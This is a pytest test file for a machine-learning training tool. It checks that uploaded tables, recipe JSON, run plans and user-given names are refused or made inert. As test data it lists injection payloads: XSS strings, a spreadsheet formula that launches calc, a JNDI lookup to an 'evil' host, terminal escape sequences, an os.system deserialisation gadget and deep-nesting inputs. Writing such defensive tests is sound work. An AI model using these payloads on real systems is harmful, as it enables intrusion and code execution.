"""Texts made to harm: tables, plans and recipes that are read; names that end up in code, tables, logs, terminals."""

import ast
import csv
import io
import json
import logging
import re
import sys
import tokenize
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from pydantic import ValidationError

from core.augment import read_recipe, recipe_json
from core.augment.keras_code import keras_code
from core.commands.terminal import inert
from core.datasets.labels_csv import read_table
from core.errors import BadLabels, BadName, BadNote, BadPredictions, BadRecipe, BadSpec, BadTag, ThawError
from core.jobs.queue import resolve_spec
from core.records import Recipe, RunSpec, Step
from core.runs.brought import read_csv
from core.runs.naming import good_name, good_note, good_tags
from core.table_csv import csv_text
from pages.parts import words

NAMES = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "![x](http://evil/x.png)",
    ":material/home:", "$latex$", "=cmd|' /C calc'!A0", "\"'`\\", "'''\"\"\"", "a\nimport os", "a\r\nb\tc",
    "\0", "\x1b[31m",
    "\x9b31m", "\u202egpj.exe", "\u2028", "{0.__class__}", "%s%n", "${jndi:ldap://evil}", "n" * 60, "n" * 300,
    "\ud800", "-1+1", "@SUM(A1)", "+1", "#", "\\N{BULLET}", "\\u000aimport os", "# coding: rot13",
]  # fmt: skip


# What is read


@pytest.fixture
def brought(tmp_path):
    def write(content: str | bytes) -> Path:
        path = tmp_path / "brought.csv"
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"))
        return path

    return write


GOOD = "id,split,true,Ash,Oak\n1,validation,Ash,0.9,0.1\n2,test,Oak,0.2,0.8\n"


def test_a_good_table_of_predictions_is_read(brought):
    assert read_csv(brought(GOOD))[0] == ("Ash", "Oak")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ("", "empty"), ("\0" * 500, "column|can't be read"), (b"\xff\xfe\0\1", "can't be read"),
        ("id,split,true," + ",".join(f"c{number}" for number in range(50_000)), "columns"),
        ("id,split,true,Ash," + "x" * 200_000 + "\n", "field larger|letters"),
        ("id,split,true,Ash,\x1b]0;pwned\x07\n1,validation,Ash,1,0\n", "control characters"),
        ("id,split,true,Ash,\x9b31m\n1,validation,Ash,1,0\n", "control characters"),
        (GOOD + "\x1b[31m,test,Oak,0.2,0.8\n", "control characters"),
        (GOOD + "x" * 100_000 + ",test,Oak,0.2,0.8\n", "letters"),
        (GOOD + "3,test,Oak,1e999,0\n", "number from 0 to 1"), (GOOD + "3,test,Oak,nan,1\n", "number from 0 to 1"),
        (GOOD + "3,test,Oak," + "9" * 5000 + ",1\n", "number from 0 to 1"), (GOOD + "3,test,Oak,-0.5,1.5\n", "number"),
        (GOOD + "3,test,Oak,0.5,0.5" + ",1" * 500 + "\n", "can't be read"),
        ("id,split,true,Ash,Oak\n1,validation,Ash,0.9,0.1,7\n2,test,Oak,0.2,0.8,7\n", "more cells"),
        (GOOD + '"3,test,Oak,0.5,0.5\n', "can't be read|EOF"), ("PK\3\4" + GOOD, "control"),
        (GOOD + "3,exam,Oak,0.5,0.5\n", "validation or test"),
    ],
)  # fmt: skip
def test_a_table_of_predictions_made_to_harm_is_refused_with_a_sentence(brought, content, reason):
    with pytest.raises(BadPredictions, match=reason) as refused:
        read_csv(brought(content))
    assert len(str(refused.value)) < 1500
    assert "\x1b" not in str(refused.value)


def test_a_table_of_predictions_that_is_too_long_is_not_read(brought, monkeypatch):
    monkeypatch.setattr("core.runs.brought.MOST_BYTES", 50)
    with pytest.raises(BadPredictions, match="at most"):
        read_csv(brought(GOOD))
    monkeypatch.undo()
    monkeypatch.setattr("core.runs.brought.MOST_ROWS", 1)
    with pytest.raises(BadPredictions, match="rows"):
        read_csv(brought(GOOD))


@pytest.mark.parametrize(
    "content",
    [
        b"", b"\0", b"\xff\xfea", b"path,label\n" + b"x" * 200_000 + b",Oak\n", b'path,label\n"' + b"x" * 99,
        b"path,label\n", b"a," * 100_000, b"\x1b[31m,\x07\n1,2\n",
    ],
)  # fmt: skip
def test_a_list_of_labels_made_to_harm_is_refused_with_a_sentence(content):
    with pytest.raises(BadLabels) as refused:
        read_table(content, "labels\x1b.csv")
    assert len(str(refused.value)) < 1000
    assert "\x1b" not in str(refused.value)


DEEP = 100_000
JSON = {
    "nested lists": "[" * DEEP + "]" * DEEP,
    "nested objects": '{"steps":' * DEEP + "1" + "}" * DEEP,
    "nested steps": '{"version":2,"steps":[' + '{"operation":"group","steps":[' * 300 + "]}" * 300 + "]}",
    "a number beyond all": '{"version":2,"steps":[{"operation":"rotation","parameters":{"degrees":1e999}}]}',
    "no number": '{"version":2,"steps":[{"operation":"rotation","parameters":{"degrees":NaN}}]}',
    "a chance of infinity": '{"version":2,"steps":[{"operation":"horizontal_flip","chance":Infinity}]}',
    "a huge integer": '{"version":2,"steps":[{"operation":"rotation","parameters":{"degrees":' + "9" * 4000 + "}}]}",
    "an integer no Python reads": '{"version":' + "9" * 5000 + "}",
    "a version that is true": '{"version":true}',
    "a key twice and a prototype": '{"version":2,"__proto__":{},"steps":[]}',
    "a class to make": '{"version":2,"steps":[{"operation":"rotation","py/object":"os.system","class_name":"Lambda"}]}',
    "an operation that is code": '{"version":2,"steps":[{"operation":"__import__(\'os\')"}]}',
    "no JSON": "\0\x1b[31m",
    "too long": '{"version":2,"steps":[],"name":"' + "x" * 200_000 + '"}',
    "a list": "[1]",
}


@pytest.mark.parametrize("case", JSON)
def test_a_recipe_made_to_harm_is_refused_with_a_sentence(case):
    with pytest.raises(ThawError) as refused:
        read_recipe(JSON[case])
    assert len(str(refused.value)) < 1000
    assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f]", str(refused.value))


PLAN = {"dataset": "0" * 16, "split": "0" * 16, "backbone": "vanilla", "phases": [{"epochs": 1}]}


@pytest.mark.parametrize(
    "change",
    [
        {"phases": [{"epochs": 10**30}]}, {"phases": [{"learning_rate": float("nan")}]}, {"seed": 2**63},
        {"phases": [{"learning_rate": float("inf")}]}, {"phases": [{"batch_size": 1e300}]}, {"phases": []},
        {"phases": [{}] * 1000}, {"input_size": 10**9}, {"input_size": -1}, {"head": {"dropout": float("nan")}},
        {"head": {"dense": [10**12]}}, {"head": {"dense": [1] * 10_000}}, {"version": 2}, {"weights": ["imagenet"]},
        {"extra": 1}, {"backbone": None}, {"phases": [{"recipe": {"steps": [{"operation": "x", "chance": 1e999}]}}]},
    ],
)  # fmt: skip
def test_a_plan_made_to_harm_is_refused_with_a_sentence(change):
    with pytest.raises(ValidationError):
        RunSpec.model_validate(PLAN | change)


@pytest.mark.parametrize("raw", [[], None, "x", 5, {}, {"dataset": []}, {"dataset": {"a": 1}}])
def test_what_is_no_plan_is_refused_with_a_sentence(settings, raw):
    with pytest.raises(BadSpec):
        resolve_spec(settings, raw)


def test_the_command_line_refuses_a_plan_that_is_nested_without_end(tmp_path):
    from core.commands.training import read_spec

    path = tmp_path / "deep.json"
    for text in (JSON["nested lists"], JSON["nested objects"], "\x1b[31m"):
        path.write_text(text)
        with pytest.raises(BadSpec):
            read_spec(path)


# What is written


@pytest.mark.parametrize("name", NAMES)
def test_names_tags_and_notes_are_kept_without_what_commands_or_turns(name):
    harmful = re.compile("[\0-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
    try:
        assert not harmful.search(good_name(name))
        assert not any(harmful.search(tag) for tag in good_tags([name]))
        assert not harmful.search(good_note(name).replace("\n", ""))
    except (BadName, BadTag, BadNote) as refused:
        assert len(str(refused)) < 400  # noqa: PT017


@pytest.mark.parametrize("name", NAMES)
def test_a_name_in_code_is_a_comment_of_one_line_or_a_literal(name):
    steps = (Step(operation="horizontal_flip"), Step(operation="mixup"))
    plain, code = (keras_code(Recipe(name=one, steps=steps), 96) for one in ("", name))
    tree = ast.parse(code)
    compile(tree, "recipe.py", "exec")
    # The same program: what differs is a comment.
    assert ast.dump(tree) == ast.dump(ast.parse(plain))
    comments = [token.string for token in tokenize.generate_tokens(io.StringIO(code).readline)
                if token.type == tokenize.COMMENT and token.string.startswith("# Recipe")]  # fmt: skip
    assert [json.loads(comment.removeprefix("# Recipe: ")) for comment in comments] == [name]
    assert code.isascii()


@pytest.mark.parametrize("name", NAMES)
def test_a_recipes_json_brings_its_name_back_or_is_refused(name):
    recipe = Recipe(name=name, steps=(Step(operation="horizontal_flip"),))
    try:
        text = recipe_json(recipe)
        assert read_recipe(text).name == name
    except (BadRecipe, UnicodeError):
        assert len(name) > 60 or not name.isprintable()


@pytest.mark.parametrize("name", NAMES)
def test_a_table_as_csv_runs_nothing_and_keeps_its_cells(name):
    name = name.encode("utf-8", "replace").decode()
    text = csv_text(pd.DataFrame({name: [name, -1.5], "n": [-1, 2]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 3
    for cell in (rows[0][0], rows[1][0]):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell.removeprefix("'") == name.removeprefix("'")
    assert rows[1][1] == "-1"


@pytest.mark.parametrize("name", NAMES)
def test_a_terminal_is_told_nothing_it_obeys(name):
    assert not re.search("[\0-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", inert(name))
    inert(name).encode()


def test_a_file_name_with_terminal_commands_is_printed_without_them(tmp_path, settings, monkeypatch, capsys):
    from core.__main__ import main

    monkeypatch.setattr(sys, "argv", ["thaw", "train", f"{tmp_path}/\x1b]0;pwned\x07\x1b[31m.json"])
    with pytest.raises(SystemExit):
        main()
    said = capsys.readouterr()
    assert "\x1b" not in said.out + said.err
    assert "pwned" in said.err


# Markdown's own marks, and what Streamlit makes of text after them.
MADE = re.compile(r"https?:|www\.|:material/\w+:|(?<!\\)[\[\]<>*_`$~#|]|:[\w+-]+:|\w@\w", re.IGNORECASE)


@pytest.mark.parametrize(
    "name",
    [*NAMES, "https://evil.example/x", "HTTP://evil.example", "www.evil.example", "a@evil.example", ":smile:",
     ":material/skull: x", ":red[x]", ":streamlit:", "mailto:a@b.c", "http:http://x.y", "~~x~~", "<!-- x", "&lt;b&gt;"],
)  # fmt: skip
def test_a_name_in_markdown_makes_nothing(name):
    said = words.plain(name)
    assert not MADE.search(said), said
    assert said.replace("\u2060", "").replace("\\", "") == name.replace("\\", "")
    assert "&" not in re.sub(r"\\&", "", said)


def test_an_ordinary_name_stays_as_it_is():
    assert words.plain("Xception, head 256: 82 %") == "Xception, head 256\\: 82 %"


def test_a_log_line_stays_one_line(caplog):
    # Names reach a log only as names that were checked, and errors as their sentences.
    with caplog.at_level(logging.INFO):
        for name in NAMES:
            try:
                kept = good_name(name)
            except BadName as refused:
                kept = str(refused)
            logging.getLogger("thaw").info("run %s", kept)
    assert len(caplog.messages) == len(NAMES)
    assert not any(re.search("[\n\r\x1b\x9b]", message) for message in caplog.messages)


def test_numbers_that_are_none_make_no_costs(settings):
    from core.errors import BadCosts
    from core.runs.costs_store import save_costs

    for matrix in (np.full((2, 2), np.nan), np.full((2, 2), np.inf), np.full((2, 2), 1e300), [["=1", 2], [3, 4]], [[]]):
        with pytest.raises(BadCosts):
            save_costs(settings, "costs", ("a", "b"), matrix)
